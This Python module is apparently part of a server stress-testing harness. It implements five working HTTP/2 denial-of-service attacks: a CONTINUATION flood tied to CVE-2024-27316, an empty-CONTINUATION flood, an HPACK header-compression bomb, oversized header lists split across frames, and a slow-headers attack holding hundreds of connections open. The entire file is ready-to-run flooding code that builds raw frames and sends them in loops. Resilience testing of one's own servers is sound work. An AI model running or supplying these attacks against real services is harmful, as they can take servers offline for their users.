"""Header blocks: without end, without measure, without hurry."""

from __future__ import annotations

import time

from hpack import Encoder

from hostile.attacks import attack
from hostile.wire import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    HEALTH_CHECK,
    Arena,
    call_headers,
    frame,
    preface,
)


@attack("CONTINUATION without end (CVE-2024-27316)", cut=True, frames=500)
def continuation_flood(arena: Arena) -> None:
    piece = Encoder().encode([(b"x-hostile", b"a" * 200)], huffman=False)
    batch = frame(CONTINUATION, 0, 1, piece) * 100
    opening = preface() + frame(HEADERS, 0, 1, call_headers(HEALTH_CHECK))
    for _ in arena.ticks():
        for line in arena.keep(2, opening):
            if not line.busy:
                line.send(batch)
                arena.sent(100)


@attack("empty CONTINUATION without end", cut=True, frames=500)
def continuation_empty(arena: Arena) -> None:
    batch = frame(CONTINUATION, 0, 1) * 100
    opening = preface() + frame(HEADERS, 0, 1, call_headers(HEALTH_CHECK))
    for _ in arena.ticks():
        for line in arena.keep(2, opening):
            if not line.busy:
                line.send(batch)
                arena.sent(100)


@attack("one header of 4 kB in the table, named 15,000 times a call (HPACK bomb)", cut=True, frames=20)
def hpack_bomb(arena: Arena) -> None:
    encoder = Encoder()
    first = call_headers(HEALTH_CHECK) + encoder.encode([(b"x-bomb", b"b" * 3_900)], huffman=False)
    again = encoder.encode([(b"x-bomb", b"b" * 3_900)])
    opening = preface() + frame(HEADERS, END_HEADERS | END_STREAM, 1, first)
    bomb = call_headers(HEALTH_CHECK) + again * 15_000
    for _ in arena.ticks():
        for line in arena.keep(2, opening):
            if not line.busy and line.next_stream < 400:
                line.next_stream = max(line.next_stream, 3)
                line.send(frame(HEADERS, END_HEADERS | END_STREAM, line.stream(), bomb))
                arena.sent(1)


@attack("header lists of 200 kB in frames of 16 kB", cut=True, frames=100)
def huge_headers(arena: Arena) -> None:
    block = call_headers(HEALTH_CHECK) + Encoder().encode(
        [(f"x-{number}".encode(), b"h" * 1_000) for number in range(200)], huffman=False
    )
    pieces = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
    for tick in arena.ticks():
        if tick % 5:
            continue
        for line in arena.keep(2):
            if line.busy:
                continue
            stream = line.stream()
            parts = [frame(HEADERS, END_STREAM, stream, pieces[0])]
            parts += [frame(CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
            parts.append(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
            line.send(b"".join(parts))
            arena.sent(len(parts))


@attack("500 header blocks that arrive byte by byte", closes_all=True, seconds=14, connections=200)
def slow_headers(arena: Arena) -> None:
    opening = preface() + frame(HEADERS, END_STREAM, 1, call_headers(HEALTH_CHECK))
    # A frame that says it is long, of which a byte comes now and then.
    opening += frame(CONTINUATION, 0, 1, b"x" * 16_000)[:9]
    opened = 0
    for tick in arena.ticks():
        late = arena.end - time.monotonic() < arena.seconds - 3
        for _ in range(0 if late else min(10, 500 - opened)):
            arena.open(opening)
            opened += 1
        for line in arena.alive()[tick % 100 :: 100]:
            line.send(b"x")
            arena.sent(1)
